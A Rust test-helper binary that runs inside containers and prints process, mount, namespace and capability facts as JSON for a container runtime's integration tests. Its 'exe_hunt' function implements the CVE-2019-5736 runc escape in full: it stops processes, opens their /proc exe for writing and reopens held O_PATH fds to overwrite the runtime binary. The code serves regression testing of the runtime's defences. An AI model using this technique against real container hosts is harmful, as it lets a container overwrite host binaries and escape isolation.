//! Runs inside test containers (as /bin/probe) and prints what it sees as JSON,
//! so the integration tests assert facts instead of parsing shell output.
//!
//! `probe` alone prints a report object. Otherwise the arguments are operations
//! separated by `--` (`probe read /a -- stat /b`); one operation prints one
//! object, several print an array in order. Operations:
//!   report | read PATH | write PATH [DATA] | stat PATH | ls PATH
//!   exit N | sleep SECONDS | sleep-forever
//!   open PATH MODE (MODE: r, w, rw or path) | ptrace PID | cwd
//!   exe-hunt DIR (see `exe_hunt`: the CVE-2019-5736 attacker)
//!   mkdir PATH | personality VALUE (hex or decimal; 0xffffffff only reads it)
//!   ioprio (the process's I/O priority: class and level)
//! Failures are reported as `{"ok":false,"errno":N,"error":"..."}`; the probe
//! never panics on a missing file. In `rlimits`, `null` means unlimited.
//! `sleep-forever` exits with 128+N on SIGTERM, SIGINT, SIGHUP, SIGUSR1 and
//! SIGUSR2: a pid 1 without handlers would ignore those signals.

use serde_json::{json, Map, Value};
use std::ffi::CStr;
use std::io::{Read, Write};
use std::os::unix::fs::{FileTypeExt, MetadataExt};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.is_empty() {
        emit(&report());
        return;
    }
    let ops: Vec<&[String]> = args
        .split(|a| a == "--")
        .filter(|op| !op.is_empty())
        .collect();
    let mut results = Vec::new();
    for op in &ops {
        // Operations that do not return must print what came before them.
        if matches!(op[0].as_str(), "exit" | "sleep-forever") {
            flush_results(&ops, &mut results);
        }
        results.push(run_op(op));
    }
    flush_results(&ops, &mut results);
}

fn flush_results(ops: &[&[String]], results: &mut Vec<Value>) {
    if results.is_empty() {
        return;
    }
    if ops.len() == 1 {
        emit(&results[0]);
    } else {
        // Several operations always print one array; exit/sleep-forever show as
        // a partial array before the process ends, which is all a test needs.
        emit(&Value::Array(std::mem::take(results)));
    }
    results.clear();
}

fn emit(v: &Value) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{v}");
    let _ = out.flush();
}

fn run_op(op: &[String]) -> Value {
    let arg = |i: usize| op.get(i).map(String::as_str).unwrap_or("");
    match op[0].as_str() {
        "report" => report(),
        "read" => read_path(arg(1)),
        "write" => write_path(arg(1), op.get(2).map(String::as_str).unwrap_or("probe")),
        "stat" => stat_path(arg(1)),
        "ls" => list_dir(arg(1)),
        "exit" => std::process::exit(arg(1).parse().unwrap_or(1)),
        "sleep" => {
            let secs: f64 = arg(1).parse().unwrap_or(1.0);
            std::thread::sleep(std::time::Duration::from_secs_f64(secs));
            json!({"ok": true})
        }
        "sleep-forever" => sleep_forever(),
        "open" => open_mode(arg(1), arg(2)),
        "ptrace" => ptrace_attach(arg(1).parse().unwrap_or(0)),
        "cwd" => cwd(),
        "exe-hunt" => exe_hunt(std::path::Path::new(arg(1))),
        "mkdir" => match std::fs::create_dir(arg(1)) {
            Ok(()) => json!({"ok": true}),
            Err(e) => io_error(&e),
        },
        "personality" => personality(arg(1)),
        "mempolicy" => mempolicy(),
        "ioprio" => {
            // SAFETY: ioprio_get(IOPRIO_WHO_PROCESS, self) takes integers only.
            let rc = unsafe { libc::syscall(libc::SYS_ioprio_get, 1, 0) };
            if rc < 0 {
                io_error(&std::io::Error::last_os_error())
            } else {
                json!({"ok": true, "class": rc >> 13, "level": rc & 0x1fff})
            }
        }
        other => json!({"ok": false, "errno": 0, "error": format!("unknown operation: {other}")}),
    }
}

fn personality(value: &str) -> Value {
    let parsed = match value.strip_prefix("0x") {
        Some(hex) => u64::from_str_radix(hex, 16),
        None => value.parse(),
    };
    let Ok(persona) = parsed else {
        return json!({"ok": false, "errno": 0, "error": format!("bad value {value:?}")});
    };
    // SAFETY: personality takes an integer and changes nothing else.
    let rc = unsafe { libc::personality(persona as libc::c_ulong) };
    if rc < 0 {
        return io_error(&std::io::Error::last_os_error());
    }
    json!({"ok": true, "previous": rc})
}

/// get_mempolicy(2) of this task: the mode number (flags apart), its
/// flags and the nodes of its mask.
fn mempolicy() -> Value {
    let mut mode: libc::c_int = 0;
    let mut mask = [0u64; 16];
    // SAFETY: the mask has room for the 1024 bits maxnode names.
    let rc = unsafe {
        libc::syscall(
            libc::SYS_get_mempolicy,
            &mut mode,
            mask.as_mut_ptr(),
            1024 as libc::c_ulong,
            std::ptr::null_mut::<libc::c_void>(),
            0,
        )
    };
    if rc != 0 {
        return io_error(&std::io::Error::last_os_error());
    }
    let nodes: Vec<usize> = (0..1024)
        .filter(|n| mask[n / 64] & (1 << (n % 64)) != 0)
        .collect();
    json!({"ok": true, "mode": mode & 0xff, "flags": mode & !0xff, "nodes": nodes})
}

fn io_error(e: &std::io::Error) -> Value {
    json!({"ok": false, "errno": e.raw_os_error().unwrap_or(0), "error": e.to_string()})
}

fn read_path(path: &str) -> Value {
    let mut buf = Vec::new();
    match std::fs::File::open(path).and_then(|f| f.take(1 << 16).read_to_end(&mut buf)) {
        Ok(n) => json!({"ok": true, "len": n, "content": String::from_utf8_lossy(&buf)}),
        Err(e) => io_error(&e),
    }
}

fn write_path(path: &str, data: &str) -> Value {
    let res = std::fs::OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(path)
        .and_then(|mut f| f.write_all(data.as_bytes()));
    match res {
        Ok(()) => json!({"ok": true}),
        Err(e) => io_error(&e),
    }
}

fn stat_path(path: &str) -> Value {
    let md = match std::fs::symlink_metadata(path) {
        Ok(md) => md,
        Err(e) => return io_error(&e),
    };
    let ft = md.file_type();
    let kind = if ft.is_symlink() {
        "symlink"
    } else if ft.is_dir() {
        "dir"
    } else if ft.is_char_device() {
        "char"
    } else if ft.is_block_device() {
        "block"
    } else if ft.is_fifo() {
        "fifo"
    } else if ft.is_socket() {
        "socket"
    } else {
        "file"
    };
    let rdev = md.rdev();
    let target = std::fs::read_link(path)
        .ok()
        .map(|t| t.to_string_lossy().into_owned());
    json!({
        "ok": true, "type": kind, "mode": md.mode() & 0o7777, "uid": md.uid(), "gid": md.gid(),
        "size": md.size(), "major": libc::major(rdev), "minor": libc::minor(rdev), "target": target,
    })
}

fn list_dir(path: &str) -> Value {
    match std::fs::read_dir(path) {
        Ok(rd) => {
            let mut names: Vec<String> = rd
                .filter_map(|e| e.ok())
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect();
            names.sort();
            json!({"ok": true, "entries": names})
        }
        Err(e) => io_error(&e),
    }
}

fn open_flags(mode: &str) -> libc::c_int {
    match mode {
        "w" => libc::O_WRONLY,
        "rw" => libc::O_RDWR,
        "path" => libc::O_PATH,
        _ => libc::O_RDONLY,
    }
}

/// open(2) with O_WRONLY, O_RDWR, O_PATH or O_RDONLY; the fd is closed again.
fn open_mode(path: &str, mode: &str) -> Value {
    let Ok(c_path) = std::ffi::CString::new(path) else {
        return json!({"ok": false, "errno": libc::EINVAL, "error": "NUL in path"});
    };
    // SAFETY: a valid C string; the fd returned is closed below.
    let fd = unsafe { libc::open(c_path.as_ptr(), open_flags(mode) | libc::O_CLOEXEC) };
    if fd < 0 {
        return io_error(&std::io::Error::last_os_error());
    }
    // SAFETY: fd is ours.
    unsafe { libc::close(fd) };
    json!({"ok": true})
}

/// PTRACE_ATTACH to PID (detached again at once when it works).
fn ptrace_attach(pid: i32) -> Value {
    // SAFETY: ptrace with integer arguments and null pointers.
    let rc = unsafe {
        libc::ptrace(
            libc::PTRACE_ATTACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        )
    };
    if rc != 0 {
        return io_error(&std::io::Error::last_os_error());
    }
    // SAFETY: as above; waitpid on the tracee we just attached.
    unsafe {
        libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL);
        libc::ptrace(
            libc::PTRACE_DETACH,
            pid,
            std::ptr::null_mut::<libc::c_void>(),
            std::ptr::null_mut::<libc::c_void>(),
        );
    }
    json!({"ok": true})
}

/// The raw getcwd(2) text ("(unreachable)/..." when the cwd is outside the
/// root) and whether that path names the same inode as ".".
fn cwd() -> Value {
    let mut buf = vec![0u8; 4096];
    // SAFETY: the raw syscall fills at most buf.len() bytes.
    let n = unsafe { libc::syscall(libc::SYS_getcwd, buf.as_mut_ptr(), buf.len()) };
    if n < 0 {
        return io_error(&std::io::Error::last_os_error());
    }
    let text = CStr::from_bytes_until_nul(&buf)
        .map(|c| c.to_string_lossy().into_owned())
        .unwrap_or_default();
    let dot = std::fs::metadata(".").map(|m| (m.dev(), m.ino())).ok();
    let named = std::fs::metadata(&text).map(|m| (m.dev(), m.ino())).ok();
    let entries = list_dir(".")["entries"].clone();
    json!({"ok": true, "cwd": text, "same_inode": dot.is_some() && dot == named, "entries": entries})
}

/// The CVE-2019-5736 attacker. Writes DIR/ready, then until DIR/stop exists
/// scans /proc for processes whose exe is not the probe's own (a runtime
/// process, or the runtime binary run through `#!/proc/self/exe`). Each one
/// is stopped (SIGSTOP) when possible, its exe is opened for writing
/// (O_WRONLY, O_RDWR) and O_PATH; the process is then killed and the O_PATH
/// fd reopened for writing through /proc/self/fd, again and again, as the
/// real exploit does once the binary no longer runs. Any open for writing
/// that works writes a marker at offset 0 (`written` lists the writes
/// that happened). After DIR/stop, one last reopen
/// of every held fd; prints what it saw and got, and writes it to DIR/report.
fn exe_hunt(dir: &std::path::Path) -> Value {
    let own_pid = std::process::id() as i32;
    let own_exe = std::fs::read_link("/proc/self/exe").unwrap_or_default();
    let mut seen: Vec<Value> = Vec::new();
    let mut seen_pids: Vec<i32> = Vec::new();
    let mut denied: Map<String, Value> = Map::new();
    let mut held: Vec<libc::c_int> = Vec::new();
    let mut written: Vec<String> = Vec::new();
    let mut note_errno = |what: &str, e: i32| {
        let key = format!("{what}:{e}");
        let n = denied.get(&key).and_then(Value::as_u64).unwrap_or(0);
        denied.insert(key, json!(n + 1));
    };
    let _ = std::fs::write(dir.join("ready"), "1");
    let mut rounds: u64 = 0;
    while !dir.join("stop").exists() {
        rounds += 1;
        let Ok(rd) = std::fs::read_dir("/proc") else {
            break;
        };
        for entry in rd.filter_map(|e| e.ok()) {
            let Some(pid) = entry
                .file_name()
                .to_str()
                .and_then(|n| n.parse::<i32>().ok())
            else {
                continue;
            };
            if pid == own_pid {
                continue;
            }
            let exe_path = format!("/proc/{pid}/exe");
            let c_exe = std::ffi::CString::new(exe_path.clone()).unwrap();
            // Only processes whose exe can be read (dumpable, same
            // credentials) are worth stopping: the others deny the open too.
            let target = match std::fs::read_link(&exe_path) {
                Ok(t) if t == own_exe => continue,
                Ok(t) => t,
                Err(e) => {
                    note_errno("readlink", e.raw_os_error().unwrap_or(0));
                    continue;
                }
            };
            // Stop it: the window while the runtime binary runs is short.
            // (Signals from inside do not reach the namespace's init.)
            let stopped = pid != 1
                // SAFETY: kill with integer arguments.
                && unsafe { libc::kill(pid, libc::SIGSTOP) } == 0;
            if !seen_pids.contains(&pid) && seen_pids.len() < 64 {
                seen_pids.push(pid);
                seen.push(json!({
                    "pid": pid,
                    "exe": target.to_string_lossy(),
                    "stopped": stopped,
                }));
            }
            for (what, flags) in [("wronly", libc::O_WRONLY), ("rdwr", libc::O_RDWR)] {
                // SAFETY: a valid C string; a returned fd is used then closed.
                let fd = unsafe { libc::open(c_exe.as_ptr(), flags | libc::O_CLOEXEC) };
                if fd >= 0 {
                    match mark(fd) {
                        Ok(n) => written.push(format!("{exe_path} ({what}): wrote {n} bytes")),
                        Err(e) => note_errno("write", e),
                    }
                    // SAFETY: fd is ours.
                    unsafe { libc::close(fd) };
                } else {
                    note_errno(
                        what,
                        std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
                    );
                }
            }
            if held.len() < 64 {
                // SAFETY: a valid C string.
                let fd = unsafe { libc::open(c_exe.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
                if fd >= 0 {
                    held.push(fd);
                } else {
                    note_errno(
                        "path",
                        std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
                    );
                }
            }
            if stopped {
                // SAFETY: kill with integer arguments.
                unsafe { libc::kill(pid, libc::SIGKILL) };
            }
        }
        // The real exploit: once the binary stops running, reopen for writing.
        for fd in &held {
            let c_fd = std::ffi::CString::new(format!("/proc/self/fd/{fd}")).unwrap();
            // SAFETY: a valid C string.
            let w = unsafe { libc::open(c_fd.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
            if w >= 0 {
                match mark(w) {
                    Ok(n) => written.push(format!("/proc/self/fd/{fd} (reopen): wrote {n} bytes")),
                    Err(e) => note_errno("reopen-write", e),
                }
                // SAFETY: w is ours.
                unsafe { libc::close(w) };
            } else if rounds % 1024 == 0 {
                note_errno(
                    "reopen",
                    std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
                );
            }
        }
        if written.len() > 8 {
            break;
        }
    }
    // The runtime's commands have all returned by now: the binary runs
    // nowhere, which is when the real exploit's reopen works.
    for fd in &held {
        let c_fd = std::ffi::CString::new(format!("/proc/self/fd/{fd}")).unwrap();
        // SAFETY: a valid C string.
        let w = unsafe { libc::open(c_fd.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
        if w >= 0 {
            match mark(w) {
                Ok(n) => written.push(format!(
                    "/proc/self/fd/{fd} (final reopen): wrote {n} bytes"
                )),
                Err(e) => note_errno("final-write", e),
            }
            // SAFETY: w is ours.
            unsafe { libc::close(w) };
        } else {
            note_errno(
                "final-reopen",
                std::io::Error::last_os_error().raw_os_error().unwrap_or(0),
            );
        }
    }
    for fd in held {
        // SAFETY: fds this function opened.
        unsafe { libc::close(fd) };
    }
    let report =
        json!({"ok": true, "rounds": rounds, "seen": seen, "denied": denied, "written": written});
    let _ = std::fs::write(dir.join("report"), report.to_string());
    report
}

/// Write a marker at offset 0 of an fd opened for writing.
/// A sealed copy opens for writing but refuses the write: only a write that
/// happened counts. Returns the bytes written or the errno.
fn mark(fd: libc::c_int) -> Result<isize, i32> {
    let marker = b"#!/bin/sh\necho overwritten by a container\n";
    // SAFETY: the buffer is valid for its length.
    let n = unsafe { libc::pwrite(fd, marker.as_ptr().cast(), marker.len(), 0) };
    if n < 0 {
        Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
    } else {
        Ok(n)
    }
}

extern "C" fn exit_on_signal(sig: libc::c_int) {
    // SAFETY: _exit is async-signal-safe.
    unsafe { libc::_exit(128 + sig) }
}

fn sleep_forever() -> ! {
    for sig in [
        libc::SIGTERM,
        libc::SIGINT,
        libc::SIGHUP,
        libc::SIGUSR1,
        libc::SIGUSR2,
    ] {
        // SAFETY: the handler only calls _exit.
        unsafe {
            libc::signal(
                sig,
                exit_on_signal as extern "C" fn(libc::c_int) as libc::sighandler_t,
            )
        };
    }
    loop {
        // SAFETY: pause has no preconditions.
        unsafe { libc::pause() };
    }
}

/// Open fds as (number, link target), listed before the report opens anything.
fn open_fds() -> Value {
    let mut fds = Vec::new();
    // SAFETY: the path is a valid C string; the DIR is closed below.
    let dir = unsafe { libc::opendir(c"/proc/self/fd".as_ptr()) };
    if dir.is_null() {
        return json!({"ok": false, "error": std::io::Error::last_os_error().to_string()});
    }
    // SAFETY: dir is a valid DIR pointer.
    let own = unsafe { libc::dirfd(dir) };
    loop {
        // SAFETY: dir is valid; the entry is read before the next readdir.
        let ent = unsafe { libc::readdir(dir) };
        if ent.is_null() {
            break;
        }
        // SAFETY: d_name is NUL-terminated.
        let name = unsafe { CStr::from_ptr((*ent).d_name.as_ptr()) }
            .to_string_lossy()
            .into_owned();
        let Ok(fd) = name.parse::<i32>() else {
            continue;
        };
        if fd == own {
            continue;
        }
        let target = std::fs::read_link(format!("/proc/self/fd/{fd}"))
            .map(|t| t.to_string_lossy().into_owned())
            .unwrap_or_default();
        fds.push(json!({"fd": fd, "target": target}));
    }
    // SAFETY: dir came from opendir and is closed once.
    unsafe { libc::closedir(dir) };
    Value::Array(fds)
}

fn report() -> Value {
    let fds = open_fds();
    let mut r = Map::new();
    // SAFETY: these getters have no preconditions.
    let (pid, ppid, uid, euid, gid, egid) = unsafe {
        (
            libc::getpid(),
            libc::getppid(),
            libc::getuid(),
            libc::geteuid(),
            libc::getgid(),
            libc::getegid(),
        )
    };
    r.insert("pid".into(), json!(pid));
    r.insert("ppid".into(), json!(ppid));
    r.insert("uid".into(), json!(uid));
    r.insert("euid".into(), json!(euid));
    r.insert("gid".into(), json!(gid));
    r.insert("egid".into(), json!(egid));
    r.insert("groups".into(), json!(groups()));
    // SAFETY: utsname is plain data; uname fills the struct it is given.
    let uts = unsafe {
        let mut uts: libc::utsname = std::mem::zeroed();
        libc::uname(&mut uts);
        uts
    };
    let field = |f: &[libc::c_char]| {
        // SAFETY: uname NUL-terminates its fields.
        unsafe { CStr::from_ptr(f.as_ptr()) }
            .to_string_lossy()
            .into_owned()
    };
    r.insert("hostname".into(), json!(field(&uts.nodename)));
    r.insert("domainname".into(), json!(field(&uts.domainname)));
    let mut ns = Map::new();
    for name in ["pid", "net", "ipc", "uts", "mnt", "cgroup", "user", "time"] {
        let link = std::fs::read_link(format!("/proc/self/ns/{name}")).ok();
        ns.insert(
            name.into(),
            json!(link.map(|l| l.to_string_lossy().into_owned())),
        );
    }
    r.insert("namespaces".into(), Value::Object(ns));
    r.insert("mountinfo".into(), mountinfo());
    r.insert("rlimits".into(), rlimits());
    r.insert(
        "cwd".into(),
        json!(std::env::current_dir()
            .ok()
            .map(|p| p.to_string_lossy().into_owned())),
    );
    let env: Map<String, Value> = std::env::vars_os()
        .map(|(k, v)| (k.to_string_lossy().into_owned(), json!(v.to_string_lossy())))
        .collect();
    r.insert("env".into(), Value::Object(env));
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let status_field = |key: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(key)?.strip_prefix(':'))
            .map(|v| v.trim().to_string())
    };
    r.insert("umask".into(), json!(status_field("Umask")));
    let mut caps = Map::new();
    for key in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        caps.insert(key.into(), json!(status_field(key)));
    }
    r.insert("capabilities".into(), Value::Object(caps));
    let num = |key: &str| status_field(key).and_then(|v| v.parse::<i64>().ok());
    r.insert("no_new_privs".into(), json!(num("NoNewPrivs")));
    r.insert("seccomp".into(), json!(num("Seccomp")));
    let cgroup = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    r.insert("cgroup".into(), json!(cgroup.lines().collect::<Vec<_>>()));
    let oom = std::fs::read_to_string("/proc/self/oom_score_adj").ok();
    r.insert(
        "oom_score_adj".into(),
        json!(oom.and_then(|s| s.trim().parse::<i64>().ok())),
    );
    r.insert("fds".into(), fds);
    Value::Object(r)
}

fn groups() -> Vec<u32> {
    // SAFETY: a zero-sized query returns the count; the buffer is then sized for it.
    let n = unsafe { libc::getgroups(0, std::ptr::null_mut()) };
    if n <= 0 {
        return Vec::new();
    }
    let mut buf = vec![0 as libc::gid_t; n as usize];
    // SAFETY: buf holds n entries.
    let n = unsafe { libc::getgroups(n, buf.as_mut_ptr()) };
    buf.truncate(n.max(0) as usize);
    buf
}

/// mountinfo escapes space, tab, newline and backslash as \ooo.
fn unescape(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\'
            && i + 3 < b.len()
            && b[i + 1..i + 4].iter().all(|c| (b'0'..=b'7').contains(c))
        {
            out.push((b[i + 1] - b'0') * 64 + (b[i + 2] - b'0') * 8 + (b[i + 3] - b'0'));
            i += 4;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn mountinfo() -> Value {
    let text = std::fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let split = |s: &str| s.split(',').map(String::from).collect::<Vec<_>>();
    let mounts: Vec<Value> = text
        .lines()
        .filter_map(|line| {
            let (pre, post) = line.split_once(" - ")?;
            let pre: Vec<&str> = pre.split(' ').collect();
            let post: Vec<&str> = post.split(' ').collect();
            if pre.len() < 6 || post.len() < 3 {
                return None;
            }
            Some(json!({
                "id": pre[0].parse::<u64>().ok(), "parent": pre[1].parse::<u64>().ok(),
                "dev": pre[2], "root": unescape(pre[3]), "mount_point": unescape(pre[4]),
                "options": split(pre[5]), "fs_type": post[0], "source": unescape(post[1]),
                "super_options": split(post[2]),
                // shared:N, master:N, propagate_from:N, unbindable
                "optional": pre[6..],
            }))
        })
        .collect();
    Value::Array(mounts)
}

/// getrlimit's resource type: glibc's enum, musl's int.
#[cfg(target_env = "gnu")]
type RlimitResource = libc::__rlimit_resource_t;
#[cfg(not(target_env = "gnu"))]
type RlimitResource = libc::c_int;

fn rlimits() -> Value {
    let names: [(&str, RlimitResource); 16] = [
        ("RLIMIT_CPU", libc::RLIMIT_CPU),
        ("RLIMIT_FSIZE", libc::RLIMIT_FSIZE),
        ("RLIMIT_DATA", libc::RLIMIT_DATA),
        ("RLIMIT_STACK", libc::RLIMIT_STACK),
        ("RLIMIT_CORE", libc::RLIMIT_CORE),
        ("RLIMIT_RSS", libc::RLIMIT_RSS),
        ("RLIMIT_NPROC", libc::RLIMIT_NPROC),
        ("RLIMIT_NOFILE", libc::RLIMIT_NOFILE),
        ("RLIMIT_MEMLOCK", libc::RLIMIT_MEMLOCK),
        ("RLIMIT_AS", libc::RLIMIT_AS),
        ("RLIMIT_LOCKS", libc::RLIMIT_LOCKS),
        ("RLIMIT_SIGPENDING", libc::RLIMIT_SIGPENDING),
        ("RLIMIT_MSGQUEUE", libc::RLIMIT_MSGQUEUE),
        ("RLIMIT_NICE", libc::RLIMIT_NICE),
        ("RLIMIT_RTPRIO", libc::RLIMIT_RTPRIO),
        ("RLIMIT_RTTIME", libc::RLIMIT_RTTIME),
    ];
    let value = |v: libc::rlim_t| {
        if v == libc::RLIM_INFINITY {
            Value::Null
        } else {
            json!(v)
        }
    };
    let mut out = Map::new();
    for (name, res) in names {
        let mut rl = libc::rlimit {
            rlim_cur: 0,
            rlim_max: 0,
        };
        // SAFETY: rl is a valid rlimit to fill.
        if unsafe { libc::getrlimit(res, &mut rl) } == 0 {
            out.insert(
                name.into(),
                json!({"soft": value(rl.rlim_cur), "hard": value(rl.rlim_max)}),
            );
        }
    }
    Value::Object(out)
}
